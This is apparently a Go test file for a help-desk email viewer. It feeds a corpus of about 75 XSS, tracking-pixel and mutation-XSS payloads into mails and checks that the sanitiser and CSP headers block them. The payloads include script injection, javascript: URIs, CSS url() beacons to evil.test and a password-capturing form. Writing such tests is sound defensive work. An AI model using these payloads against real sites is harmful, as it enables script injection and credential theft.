package webui

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"yingda/channels/email"
	"yingda/desk"
)

// corpus is what strangers put into mails to run, to be fetched, or to look like us (UP-X1, UP-X2).
var corpus = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`,
	`<IMG SRC=JaVaScRiPt:alert('1')>`, `<img src="jav&#x09;ascript:alert(1)">`, `<img src=&#106;&#97;vascript:alert(1)>`, `<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="//evil.test/x.swf"></object>`,
	`<embed src="//evil.test/x.swf">`, `<applet code=x></applet>`, `<form action="//evil.test"><input name=password><button>go</button></form>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`, `<div style="background:url(//evil.test/t.gif)">x</div>`, `<div style="background-image:url('https://evil.test/t.gif')">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`, `<div style="-moz-binding:url(//evil.test/x.xml#x)">x</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>`,
	`<style>@import '//evil.test/x.css';</style>`, `<style>body{background:url(//evil.test/t.gif)}</style>`, `<link rel=stylesheet href="//evil.test/x.css">`,
	`<link rel=prefetch href="https://evil.test/">`, `<link rel="dns-prefetch" href="//evil.test">`, `<meta http-equiv=refresh content="0;url=//evil.test">`, `<base href="//evil.test/">`,
	`<img src="https://evil.test/t.gif" width=1 height=1>`, `<img srcset="https://evil.test/t.gif 2x">`, `<picture><source srcset="https://evil.test/t.gif"></picture>`,
	`<img src="//evil.test/t.gif">`, `<img lowsrc="https://evil.test/t.gif">`, `<img dynsrc="https://evil.test/t.gif">`, `<input type=image src="https://evil.test/t.gif">`,
	`<body background="https://evil.test/t.gif">x</body>`, `<table background="https://evil.test/t.gif"><tr><td>x</td></tr></table>`, `<td background="//evil.test/t.gif">`,
	`<video src="https://evil.test/v.mp4" poster="https://evil.test/t.gif" autoplay></video>`, `<audio src="https://evil.test/a.mp3" autoplay></audio>`,
	`<bgsound src="https://evil.test/a.mp3">`, `<a ping="https://evil.test/" href="https://ok.test/">x</a>`, `<img data-remote-src="javascript:alert(1)">`,
	`<div id=app onclick=alert(1) onmouseover=alert(1) class=composer>x</div>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<xss style="behavior:url(x.htc)">`, `<textarea><script>alert(1)</script></textarea>`, `<select><option onfocus=alert(1)></select>`,
	`<isindex action=javascript:alert(1) type=image>`, "<img src=x:x onerror\x00=alert(1)>", "<scr\x00ipt>alert(1)</scr\x00ipt>", `<<script>alert(1)//<</script>`,
	`<img src="x` + "`" + `><script>alert(1)</script>">`, `<math><mtext></table></math><img src onerror=alert(1)>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<a href="https://ok.test/" target="_self" onclick="alert(1)">x</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<font style="content:url(//evil.test/t.gif)">x</font>`, `<div style="list-style:url(//evil.test/t.gif)">x</div>`,
	`<p style="color:red;background:u\72l(//evil.test/t.gif)">x</p>`, `<p style="background:/**/url(//evil.test)">x</p>`, `<p style="color:var(--x,url(//evil.test))">x</p>`,
}

// harm names what in a page could run or be fetched by itself; "" is nothing. Pictures of our own origin are allowed.
func harm(page string) string {
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		switch z.Next() { //nolint:exhaustive // only elements can do harm
		case html.ErrorToken:
			return ""
		case html.StartTagToken, html.SelfClosingTagToken:
			t := z.Token()
			switch t.Data {
			case "script", "iframe", "object", "embed", "applet", "form", "input", "button", "link", "style", "svg", "math", "video", "audio", "frame", "noscript", "template", "textarea", "select":
				return "<" + t.Data + ">"
			}
			for _, a := range t.Attr {
				v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
				loads := a.Key == "src" || a.Key == "srcset" || a.Key == "background" || a.Key == "poster" || a.Key == "ping" || a.Key == "lowsrc" || a.Key == "dynsrc" || a.Key == "data"
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "srcdoc", a.Key == "id", a.Key == "http-equiv" && t.Data == "meta":
					return a.Key + "=" + a.Val
				case strings.Contains(v, "javascript:"), strings.Contains(v, "vbscript:"), strings.HasPrefix(v, "data:text"), strings.HasPrefix(v, "data:image/svg"):
					return a.Key + "=" + a.Val
				case loads && !strings.HasPrefix(v, "cid:") && !strings.HasPrefix(v, "data:image/") && !strings.HasPrefix(v, apiPrefix):
					return a.Key + "=" + a.Val
				case a.Key == "style" && (strings.Contains(v, "url") || strings.Contains(v, "expression") || strings.Contains(v, "position") || strings.Contains(v, "\\") || strings.Contains(v, "var(") || strings.Contains(v, "behavior")):
					return "style=" + a.Val
				case a.Key == "href" && t.Data == "base":
					return "base"
				}
			}
		}
	}
}

// UP-X1: each payload as a mail's body, quoted text, subject, name, address and file name: what is served runs nothing and
// loads nothing, before and after pictures are asked for, and its headers would forbid it all the same.
func TestNothingRuns(t *testing.T) {
	t.Parallel()
	s := newShop(t)
	ann := s.signsIn("ann")
	for i, payload := range corpus {
		raw := "From: \"" + strings.NewReplacer("\"", "", "\x00", "").Replace(payload) + "\" <x@evil.test>\r\nTo: help@yingda.test\r\nSubject: " + strings.ReplaceAll(payload, "\x00", "") +
			"\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Hello</p>" + payload + "<blockquote type=cite>" + payload + "</blockquote></body></html>\r\n"
		m, err := email.Parse([]byte(raw), email.Options{Inbox: "help", At: time.Now()})
		if err != nil {
			t.Fatalf("payload %d: %v", i, err)
		}
		for _, part := range []string{m.Message.Body.HTML, m.Message.Body.QuotedHTML} {
			if h := harm(part); h != "" {
				t.Errorf("payload %d %q: the sanitiser lets %q through: %s", i, payload, h, part)
			}
		}
		m.External, m.Inbox = newID(), "help"
		m.Message.Attachments = []desk.Attachment{{Blob: strings.Repeat("0", 64), Name: payload + ".svg", ContentType: "image/svg+xml"}}
		got, err := s.desk.Receive(t.Context(), m.Inbound)
		if err != nil {
			t.Fatalf("payload %d: %v", i, err)
		}
		path := "/conversations/" + string(got.Conversation) + "/messages/" + string(got.Message) + "/html"
		for _, p := range []string{path, path + "?images=1"} {
			page := ann.do(http.MethodGet, p, "")
			body := strings.Replace(page.body, `<base target="_blank">`, "", 1)
			if h := harm(body); page.status != http.StatusOK || h != "" {
				t.Errorf("payload %d %q: %s serves %q: %s", i, payload, p, h, page.body)
			}
			if i > 0 {
				continue
			}
			csp := page.header.Get("Content-Security-Policy")
			for _, want := range []string{"default-src 'none'", "sandbox allow-same-origin", "img-src 'self' data:;", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'"} {
				if !strings.Contains(csp, want) {
					t.Errorf("policy of %s: got %q, want %q in it", p, csp, want)
				}
			}
			if strings.Contains(csp, "allow-scripts") || strings.Contains(csp, "http:") || strings.Contains(csp, "https:") || page.header.Get("Referrer-Policy") != "no-referrer" || page.header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("headers of %s: got %v", p, page.header)
			}
		}
		thread := get[Thread](ann, "/conversations/"+string(got.Conversation)+"/messages")
		if a := thread.Items[0].Attachments[0]; !a.Dangerous || strings.ContainsAny(fileName(a.Name), "/\\\x00") {
			t.Errorf("payload %d as a file name: got %q, dangerous %v", i, a.Name, a.Dangerous)
		}
	}
}
